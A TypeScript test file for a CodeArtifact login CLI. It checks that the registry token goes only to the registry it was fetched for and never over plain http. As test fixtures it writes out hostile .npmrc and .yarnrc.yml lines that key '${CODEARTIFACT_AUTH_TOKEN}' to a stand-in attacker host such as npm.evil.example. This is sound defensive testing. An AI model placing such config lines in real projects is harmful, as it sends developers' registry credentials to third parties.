// The token reaches the registries it was fetched for, and no other host: a cloned repository controls
// its .npmrc and .yarnrc.yml, so these attacks run the built CLI and the real npm and yarn 4 against a
// loopback "attacker" registry that records every Authorization header it is sent.
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { REGISTRY, useFakeAws } from "../cli/support.js";
import { YARN_ENV } from "../package-managers/support/clients.js";
import { type LoopbackRegistry, startLoopbackRegistry } from "../package-managers/support/registry.js";
import { clientCommand } from "../support/clients.js";
import { stderrLines } from "../support/run.js";

const { aws, sandbox } = useFakeAws();
/** A token the user's environment hands over (the tool uses it as is): the registry below accepts it. */
const ENV_TOKEN = "eyJ2ZXIiOjF9.ENV-TOKEN-for-the-loopback-registry";

let ours: LoopbackRegistry;
let attacker: LoopbackRegistry;
beforeAll(async () => {
  ours = await startLoopbackRegistry({ token: ENV_TOKEN, repo: "npm-store" });
  attacker = await startLoopbackRegistry({ token: "never-sent", name: "@evil/pkg", repo: "evil" });
});
afterAll(async () => {
  await ours?.close();
  await attacker?.close();
});

/** A sandbox whose config maps the loopback registry to CodeArtifact coordinates. */
function project() {
  const box = sandbox(YARN_ENV);
  box.config(
    `[codeartifact domain="corp" account="111122223333" region="us-east-1" name="npm-store"]\nregistry_url = ${ours.url}\n`,
  );
  return box;
}
const nerf = (url: string) => url.replace(/^https?:/, "");
const issued = () => aws().codeartifact.issued.map((t) => t.token);
const sentTo = (registry: LoopbackRegistry, start: number) =>
  registry.requests.slice(start).map((r) => r.authorization ?? "");

/** Runs `args` in `box`: the attacker is asked (else the test proves nothing), never with a token. */
async function attack(box: ReturnType<typeof project>, args: string[]) {
  const start = attacker.requests.length;
  const result = await box.run(args);
  expect(attacker.requests.length, result.stdout + result.stderr).toBeGreaterThan(start);
  expect(issued().length).toBeGreaterThan(0);
  for (const header of sentTo(attacker, start)) {
    for (const token of issued()) expect(header).not.toContain(token);
  }
  expect(result.stdout + result.stderr).not.toContain(issued()[0]);
  return result;
}
const PRINT_ENV = `process.stdout.write(JSON.stringify({ ca: process.env.CODEARTIFACT_AUTH_TOKEN ?? null, yarn: process.env.YARN_NPM_AUTH_TOKEN ?? null }))`;

describe("exec: `${CODEARTIFACT_AUTH_TOKEN}` goes only under the registries the token was fetched for", () => {
  it("a project .npmrc keying it to an attacker's scope registry: `exec -- npm install --ignore-scripts` does not deliver it", async () => {
    const box = project();
    writeFileSync(
      join(box.project, "package.json"),
      JSON.stringify({ name: "app", version: "1.0.0", dependencies: { "@evil/pkg": "1.0.0" } }),
    );
    const evil = `${nerf(attacker.url)}:_authToken=\${CODEARTIFACT_AUTH_TOKEN}`;
    writeFileSync(
      join(box.project, ".npmrc"),
      `registry=${ours.url}\n@evil:registry=${attacker.url}\n${evil}\n`,
    );
    const result = await attack(box, [
      "exec",
      "--",
      "npm",
      "install",
      "--ignore-scripts",
      "--no-audit",
      "--no-fund",
    ]);
    expect(issued()).toHaveLength(1);
    expect(result.status).not.toBe(0);
    expect(stderrLines(result.stderr)).toContain(
      `warning: \`CODEARTIFACT_AUTH_TOKEN\` not set: \`${join(box.project, ".npmrc")}\`:3 (\`${nerf(attacker.url)}:_authToken\`) would send it to \`${nerf(attacker.url)}\`, not to the registry it was fetched for (${nerf(ours.url)}): remove that reference, or key it to ${nerf(ours.url)}`,
    );
  });

  it.each([
    ["a `userconfig=` the project .npmrc names", "userconfig"],
    ["the user .npmrc", "home"],
  ])("a stray reference in %s withholds it too", async (_name, where) => {
    const box = project();
    const stray = `//npm.evil.example/:_authToken=\${CODEARTIFACT_AUTH_TOKEN}\n`;
    const file = where === "home" ? box.path(".npmrc") : join(box.project, "more.npmrc");
    box.projectNpmrc(`registry=${ours.url}\n${where === "home" ? "" : "userconfig=./more.npmrc\n"}`);
    writeFileSync(file, stray);
    const result = await box.run(["exec", "--", process.execPath, "-e", PRINT_ENV]);
    expect(result.status, result.stderr).toBe(0);
    expect(JSON.parse(result.stdout).ca).toBeNull();
    expect(result.stderr).toContain(`\`CODEARTIFACT_AUTH_TOKEN\` not set: \`${file}\`:1 `);
  });

  it("an inherited CODEARTIFACT_AUTH_TOKEN is taken out of the command's environment when a stray reference exists", async () => {
    const box = project();
    box.projectNpmrc(`registry=${ours.url}\n//npm.evil.example/:_authToken=\${CODEARTIFACT_AUTH_TOKEN}\n`);
    const result = await box.run(["exec", "--", process.execPath, "-e", PRINT_ENV], {
      env: { CODEARTIFACT_AUTH_TOKEN: ENV_TOKEN },
    });
    expect(result.status, result.stderr).toBe(0);
    expect(JSON.parse(result.stdout).ca).toBeNull();
  });

  it("references under the fetched registry only: it is exported, and npm installs through it", async () => {
    const box = project();
    writeFileSync(
      join(box.project, "package.json"),
      JSON.stringify({ name: "app", version: "1.0.0", dependencies: { "cak-demo": "1.0.0" } }),
    );
    writeFileSync(
      join(box.project, ".npmrc"),
      `registry=${ours.url}\n${nerf(ours.url)}:_authToken=\${CODEARTIFACT_AUTH_TOKEN}\n`,
    );
    const env = { CODEARTIFACT_AUTH_TOKEN: ENV_TOKEN };
    const printed = await box.run(["exec", "--", process.execPath, "-e", PRINT_ENV], { env });
    expect(JSON.parse(printed.stdout).ca).toBe(ENV_TOKEN);
    expect(printed.stderr).not.toContain("not set");
    const install = await box.run(
      ["exec", "--", "npm", "install", "--ignore-scripts", "--no-audit", "--no-fund"],
      { env },
    );
    expect(install.status, install.stderr).toBe(0);
  });

  it("diagnose reports a stray reference as a trap, naming file:line", async () => {
    const box = project();
    box.projectNpmrc(
      `registry=${ours.url}\n@evil:registry=${attacker.url}\n${nerf(attacker.url)}:_authToken=\${CODEARTIFACT_AUTH_TOKEN}\n`,
    );
    const result = await box.run(["diagnose", "--json"]);
    const report = JSON.parse(result.stdout);
    expect(report.registries[0].traps).toContainEqual(
      expect.stringContaining(
        `${join(box.project, ".npmrc")}:3: \`${nerf(attacker.url)}:_authToken\` hands \${CODEARTIFACT_AUTH_TOKEN} to \`${nerf(attacker.url)}\``,
      ),
    );
    const text = await box.run(["diagnose"]);
    expect(text.stdout).toContain(`trap:       ${join(box.project, ".npmrc")}:3:`);
  });
});

describe("exec: yarn berry's YARN_NPM_AUTH_TOKEN only when every registry yarn would use is the fetched one", () => {
  const yarn = clientCommand("yarn");
  const writeYarnProject = (dir: string, dependency: string, yarnrc: string) => {
    writeFileSync(
      join(dir, "package.json"),
      JSON.stringify({ name: "app", version: "1.0.0", dependencies: { [dependency]: "1.0.0" } }),
    );
    writeFileSync(join(dir, "yarn.lock"), "");
    writeFileSync(join(dir, ".yarnrc.yml"), yarnrc);
  };

  it.each([
    [
      "a scope routed to another host: `exec -- yarn install`",
      () =>
        `npmRegistryServer: "${ours.url}"\nnpmScopes:\n  evil:\n    npmRegistryServer: "${attacker.url}"\n`,
      () => [] as string[],
      ["npmScopes.evil.npmRegistryServer", 4],
    ],
    [
      "CodeArtifact only as a scope, a public default: `exec -r URL -- yarn install`",
      () =>
        `npmRegistryServer: "${attacker.url}"\nnpmScopes:\n  corp:\n    npmRegistryServer: "${ours.url}"\n`,
      () => ["--registry", ours.url],
      ["npmRegistryServer", 1],
    ],
  ] as const)("%s does not send the token to the other host", async (_name, yarnrc, flags, [key, line]) => {
    const box = project();
    writeYarnProject(box.project, "@evil/pkg", yarnrc());
    const result = await attack(box, ["exec", ...flags(), "--", ...yarn, "install"]);
    expect(stderrLines(result.stderr)).toContain(
      `warning: \`YARN_NPM_AUTH_TOKEN\` not set: yarn would also send it to \`${attacker.url}\` (\`${join(box.project, ".yarnrc.yml")}\`:${line} (\`${key}\`)), not only to ${nerf(ours.url)}: run \`codeartifact-login login --yarn\` to give yarn a token for the CodeArtifact registry alone`,
    );
  });

  it("a .yarnrc.yml handing `${CODEARTIFACT_AUTH_TOKEN}` to a scope on another host: yarn does not get it", async () => {
    const box = project();
    writeYarnProject(
      box.project,
      "@evil/pkg",
      `npmRegistryServer: "${ours.url}"\nnpmScopes:\n  evil:\n    npmRegistryServer: "${attacker.url}"\n    npmAuthToken: "\${CODEARTIFACT_AUTH_TOKEN:-none}"\n`,
    );
    const result = await attack(box, ["exec", "--", ...yarn, "install"]);
    expect(stderrLines(result.stderr)).toContain(
      `warning: \`CODEARTIFACT_AUTH_TOKEN\` not set: \`${join(box.project, ".yarnrc.yml")}\`:5 (\`npmScopes.evil.npmAuthToken\`) hands it to yarn for a place that is not the token of a registry it was fetched for (${nerf(ours.url)}): remove that reference`,
    );
  });

  it(".npmrc names CodeArtifact, .yarnrc.yml does not: yarn's default is its own registry, so no yarn token", async () => {
    const box = project();
    box.projectNpmrc(`registry=${ours.url}\n`);
    // The real yarn 4 says where it would send its top-level token here.
    const where = await box.run(["exec", "--", ...yarn, "config", "get", "npmRegistryServer"]);
    expect(where.status, where.stdout + where.stderr).toBe(0);
    expect(where.stdout.trim()).toBe("https://registry.yarnpkg.com");
    expect(where.stderr).toContain(
      "`YARN_NPM_AUTH_TOKEN` not set: yarn would also send it to `https://registry.yarnpkg.com` (`yarn's default`)",
    );
    const printed = await box.run(["exec", "--", process.execPath, "-e", PRINT_ENV]);
    expect(JSON.parse(printed.stdout).yarn).toBeNull();
  });

  it("the default is the fetched registry and no scope routes elsewhere: the real yarn 4 installs with the token", async () => {
    const box = project();
    writeYarnProject(
      box.project,
      "cak-demo",
      `npmRegistryServer: "${ours.url}"\nnpmScopes:\n  corp:\n    npmRegistryServer: "${ours.url}"\n`,
    );
    const start = ours.requests.length;
    const result = await box.run(["exec", "--", ...yarn, "install"], {
      env: { CODEARTIFACT_AUTH_TOKEN: ENV_TOKEN },
    });
    expect(result.status, result.stdout + result.stderr).toBe(0);
    expect(result.stderr).not.toContain("not set");
    expect(sentTo(ours, start)).toContain(`Bearer ${ENV_TOKEN}`);
  });
});

describe("plain http:// never carries a token, and URLs are shown as written", () => {
  const HTTP = REGISTRY.replace("https://", "http://");

  it("`--registry http://…` (a CodeArtifact host) is refused, naming the flag, before any AWS call", async () => {
    const result = await sandbox().run(["token", "--registry", HTTP]);
    expect(result.status).toBe(1);
    expect(stderrLines(result.stderr).at(-1)).toBe(
      `error: \`--registry\`: CodeArtifact registry URL \`${HTTP}\`: plain http would send the token unencrypted: use https://`,
    );
    expect(aws().calls).toEqual([]);
  });

  it("an http `registry_url` to a host that is not loopback is refused, naming the config file and line", async () => {
    const box = sandbox();
    const config = box.config(
      '[codeartifact domain="corp" account="111122223333" region="us-east-1" name="npm-store"]\nregistry_url = http://npm-proxy.corp.example/npm/npm-store/\n',
    );
    const result = await box.run(["token", "--registry", "http://npm-proxy.corp.example/npm/npm-store/"]);
    expect(result.status).toBe(1);
    expect(stderrLines(result.stderr).at(-1)).toBe(
      `error: ${config}:2: \`registry_url\`: \`http://npm-proxy.corp.example/npm/npm-store/\` uses plain http, which would send the token unencrypted: use https:// (http is allowed for a loopback host only)`,
    );
    expect(aws().calls).toEqual([]);
  });

  it("`--registry http://proxy` with explicit coordinates is refused unless the host is loopback", async () => {
    const coordinates = [
      "--domain",
      "corp",
      "--domain-owner",
      "111122223333",
      "--region",
      "us-east-1",
      "--repository",
      "npm-store",
    ];
    const remote = await sandbox().run([
      "token",
      "--registry",
      "http://npm-proxy.corp.example/npm/",
      ...coordinates,
    ]);
    expect(remote.status).toBe(1);
    expect(stderrLines(remote.stderr).at(-1)).toMatch(
      /^error: `--registry`: `http:\/\/npm-proxy\.corp\.example\/npm\/` uses plain http/,
    );
    const loopback = await sandbox().run([
      "token",
      "--registry",
      "http://127.0.0.1:4873/npm/",
      ...coordinates,
    ]);
    expect(loopback.status, loopback.stderr).toBe(0);
  });

  it.each(["status", "diagnose", "exec", "login"])(
    "`%s` with an http CodeArtifact URL in the project .npmrc refuses it as written, file:line, nothing rewritten to https",
    async (command) => {
      const box = sandbox();
      box.projectNpmrc(`# corp\nregistry=${HTTP}\n`);
      const args = command === "exec" ? ["exec", "--", process.execPath, "-e", "0"] : [command];
      const result = await box.run(args);
      expect(result.status).toBe(1);
      const line = `\`${join(box.project, ".npmrc")}\`:2: \`registry\`: CodeArtifact registry URL \`${HTTP}\`: plain http would send the token unencrypted: use https://`;
      expect(result.stdout + result.stderr).toContain(line);
      expect(result.stdout + result.stderr).not.toContain(REGISTRY);
      expect(aws().calls).toEqual([]);
      if (command === "login")
        expect(readFileSync(join(box.project, ".npmrc"), "utf8")).toBe(`# corp\nregistry=${HTTP}\n`);
    },
  );

  it("diagnose --json keeps its report and gives the refusal as its error", async () => {
    const box = sandbox();
    box.projectNpmrc(`registry=${HTTP}\n`);
    const result = await box.run(["diagnose", "--json"]);
    expect(result.status).toBe(1);
    const report = JSON.parse(result.stdout);
    expect(report.error).toEqual({
      code: "REGISTRY_URL_INVALID",
      message: expect.stringContaining(`\`${HTTP}\``),
    });
    expect(report.keychain).toBeDefined();
  });

  it("status and diagnose show a loopback http registry as it is", async () => {
    const box = project();
    box.projectNpmrc(`registry=${ours.url}\n`);
    const status = await box.run(["status"]);
    expect(status.stdout).toContain(`  registry:    ${ours.url}  (from `);
    const diagnose = await box.run(["diagnose"]);
    expect(diagnose.stdout).toContain(`  url:        ${ours.url}  (from `);
    expect(status.stdout + diagnose.stdout).not.toContain(ours.url.replace("http://", "https://"));
  });
});
